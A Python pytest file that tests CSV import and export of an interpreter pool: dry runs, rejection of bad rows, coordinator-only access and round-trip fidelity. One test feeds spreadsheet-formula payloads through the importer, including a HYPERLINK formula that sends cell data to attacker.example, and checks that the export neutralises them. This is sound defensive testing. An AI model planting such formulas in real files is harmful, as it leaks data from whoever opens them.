"""Pool import and export: a dry run writes nothing, one bad row stops the whole file, a good
file creates and updates interpreters, and an exported pool imports back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from rris.access.queries.actors import actor_of
from rris.accounts.integrations.passwords import verify_password
from rris.accounts.models.accounts import User
from rris.common.domain.errors import Forbidden
from rris.enums import Proficiency, Role
from rris.extensions import db
from rris.matching.models.conflicts import SweepRequest
from rris.pool.models.interpreters import InterpreterProfile
from rris.pool.models.languages import Dialect
from rris.pool.queries.pool_export import pool_file_rows
from rris.pool.services.pool_import import (
    RowAction,
    apply_import,
    export_pool,
    preview_import,
    profile_loads,
    row_of,
)
from tests import factories
from tests.conftest import DEFAULT_NOW
from tests.pool.test_pool_csv import csv_of
from tests.support.spreadsheets import HOSTILE, unsafe_csv_cells

NEW = {
    "email": "farid@pool.example",
    "name": "Farid Rahimi",
    "gender": "male",
    "timezone": "Asia/Kabul",
    "employment": "freelance",
    "language_pairs": "prs-srp:c1",
    "dialects": "",
    "accreditations": "RS:2027-06-30",
    "specialisations": "legal",
    "daily_cap_minutes": "300",
    "rest_gap_minutes": "20",
    "hourly_rate": "20",
    "currency": "USD",
    "active": "yes",
}


@pytest.fixture
def hub(ctx):
    return actor_of(factories.user(Role.COORDINATOR, email="hub@marri.example"))


@pytest.fixture
def mariam(ctx):
    factories.country("AL")
    return factories.interpreter(email="mariam@pool.example", name="Mariam A.", pairs=(("pus", "srp"),))


def interpreters() -> int:
    return db.session.scalar(select(func.count()).select_from(InterpreterProfile))


def mariam_row(mariam, **changes: str) -> dict[str, str]:
    """Mariam's row as export writes it, with `changes`."""
    hub_actor = actor_of(db.session.scalar(select(User).where(User.role == Role.COORDINATOR)))
    exported = next(csv.DictReader(io.StringIO(export_pool(hub_actor))))
    return {**exported, **changes}


def test_the_dry_run_lists_what_it_would_do_and_writes_nothing(hub, mariam):
    text = csv_of(NEW, mariam_row(mariam, daily_cap_minutes="480"))
    report = preview_import(text, hub, DEFAULT_NOW)
    assert report.ok and not report.applied
    assert [(o.row, o.email, o.action) for o in report.rows] == [
        (2, "farid@pool.example", RowAction.CREATE),
        (3, "mariam@pool.example", RowAction.UPDATE),
    ]
    assert interpreters() == 1
    assert db.session.get(InterpreterProfile, mariam.id).daily_cap_minutes != 480


def test_one_bad_row_rejects_the_file_and_nothing_is_written(hub, mariam):
    text = csv_of(NEW, mariam_row(mariam, daily_cap_minutes="480", currency="XXQ"))
    report = apply_import(text, hub, DEFAULT_NOW)
    assert not report.ok and not report.applied
    assert report.rows[1].action is RowAction.REJECT
    assert report.rows[1].problems[0].column == "currency"
    assert interpreters() == 1
    assert db.session.scalar(select(User).where(User.email == "farid@pool.example")) is None


def test_an_address_of_a_caseworker_is_rejected(hub, mariam):
    factories.caseworker("RS", email="jelena@mup.rs.example")
    report = preview_import(csv_of({**NEW, "email": "jelena@mup.rs.example"}), hub, DEFAULT_NOW)
    assert report.rows[0].action is RowAction.REJECT
    assert "not an interpreter" in report.rows[0].problems[0].message


def test_a_good_file_creates_and_updates_and_asks_for_a_conflict_sweep(hub, mariam):
    text = csv_of(NEW, mariam_row(mariam, language_pairs="pus-srp:native;prs-srp:c1", accreditations="AL:2027-03-01"))
    report = apply_import(text, hub, DEFAULT_NOW)
    assert report.applied
    farid = db.session.scalar(select(User).where(User.email == "farid@pool.example"))
    assert farid.role is Role.INTERPRETER and not verify_password(farid.password_hash, "")
    profile = farid.interpreter_profile
    assert [(p.language_a, p.language_b) for p in profile.language_pairs] == [("prs", "srp")]
    assert profile.hourly_rate == Decimal("20.00") and profile.daily_cap_minutes == 300
    assert [(a.country.code, a.valid_from, a.valid_to) for a in profile.accreditations] == [
        ("RS", date(2026, 1, 12), date(2027, 6, 30))
    ]
    db.session.refresh(mariam)
    assert {(p.language_a, p.proficiency) for p in mariam.language_pairs} == {
        ("pus", Proficiency.NATIVE),
        ("prs", Proficiency.C1),
    }
    assert [a.country.code for a in mariam.accreditations] == ["AL"]
    swept = db.session.scalars(select(SweepRequest.interpreter_id)).all()
    assert swept == [mariam.id]


def test_an_expiry_alone_extends_the_existing_clearance(hub, mariam):
    start = mariam.accreditations[0].valid_from
    apply_import(csv_of(mariam_row(mariam, accreditations="RS:2028-01-31")), hub, DEFAULT_NOW)
    db.session.refresh(mariam)
    assert [(a.valid_from, a.valid_to) for a in mariam.accreditations] == [(start, date(2028, 1, 31))]


def test_an_exported_pool_imports_back_unchanged(hub, mariam):
    apply_import(csv_of(NEW), hub, DEFAULT_NOW)
    exported = export_pool(hub)
    report = apply_import(exported, hub, DEFAULT_NOW)
    assert report.ok
    assert [o.action for o in report.rows] == [RowAction.UNCHANGED, RowAction.UNCHANGED]
    assert export_pool(hub) == exported


def test_only_coordinators_import_or_export_the_pool(ctx, mariam):
    caseworker = actor_of(factories.caseworker("RS"))
    interpreter = actor_of(mariam.user)
    for actor in (caseworker, interpreter):
        with pytest.raises(Forbidden):
            preview_import(csv_of(NEW), actor, DEFAULT_NOW)
        with pytest.raises(Forbidden):
            apply_import(csv_of(NEW), actor, DEFAULT_NOW)
        with pytest.raises(Forbidden):
            export_pool(actor)


def test_names_that_look_like_formulas_come_back_out_as_text_and_import_back_unchanged(hub, mariam):
    """A file with formulas for names (one behind a tab or CR that import strips) is imported
    as text; the export marks every such cell, and imports back without a change."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(NEW))
    writer.writeheader()
    for number, name in enumerate(HOSTILE):
        writer.writerow({**NEW, "email": f"formula{number}@pool.example", "name": name})
    report = apply_import(out.getvalue(), hub, DEFAULT_NOW)
    assert report.applied, report.rows
    stored = set(db.session.scalars(select(User.name).where(User.role == Role.INTERPRETER)))
    assert {'=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "+SUM(1,2)", "=1+1"} <= stored

    exported = export_pool(hub)
    assert unsafe_csv_cells(exported) == []
    names = {row["name"] for row in csv.DictReader(io.StringIO(exported))}
    assert {"'+SUM(1,2)", "'=1+1", "'-2+3", "'@SUM(1,2)"} <= names
    again = apply_import(exported, hub, DEFAULT_NOW)
    assert {o.action for o in again.rows} == {RowAction.UNCHANGED}
    assert export_pool(hub) == exported


def test_the_export_says_of_each_interpreter_what_their_record_says(hub, mariam):
    """Read as plain columns for speed, every interpreter's row is still the one their stored record
    gives: pairs, dialects, every clearance, specialisations with their training days, rates."""
    apply_import(csv_of(NEW), hub, DEFAULT_NOW)
    db.session.add(Dialect(language_code="prs", name="Kabuli"))
    db.session.commit()
    farid = {
        **NEW,
        "email": "farid2@pool.example",
        "language_pairs": "prs-srp:c1;eng-prs:native",
        "dialects": "prs:Kabuli",
        "accreditations": "RS:2025-01-01/2026-12-31;AL:2027-03-01",
        "specialisations": "legal:2024-05-01;trauma",
        "hourly_rate": "17.5",
        "active": "no",
    }
    assert apply_import(csv_of(farid), hub, DEFAULT_NOW).applied
    profiles = db.session.scalars(
        select(InterpreterProfile).join(User).options(*profile_loads()).order_by(User.email)
    ).all()
    assert pool_file_rows() == [row_of(profile) for profile in profiles]
    exported = {row["email"]: row for row in csv.DictReader(io.StringIO(export_pool(hub)))}
    assert list(exported) == ["farid2@pool.example", "farid@pool.example", "mariam@pool.example"]
    assert exported["farid2@pool.example"]["dialects"] == "prs:Kabuli"
    assert exported["farid2@pool.example"]["accreditations"] == "AL:2026-01-12/2027-03-01;RS:2025-01-01/2026-12-31"
    assert exported["farid2@pool.example"]["active"] == "no"
